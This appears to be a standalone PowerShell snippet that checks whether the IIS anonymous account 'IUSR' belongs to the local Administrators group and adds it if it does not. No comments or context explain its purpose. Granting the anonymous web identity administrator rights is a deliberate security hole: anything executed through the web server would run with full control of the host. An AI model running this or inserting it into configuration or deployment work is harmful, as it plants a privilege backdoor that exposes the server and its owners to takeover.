try {
    $existing = Get-LocalGroupMember -Group 'Administrators' -Member 'IUSR' -ErrorAction Stop
    Write-Output "already: $($existing.Name)"
} catch {
    Add-LocalGroupMember -Group 'Administrators' -Member 'IUSR'
}
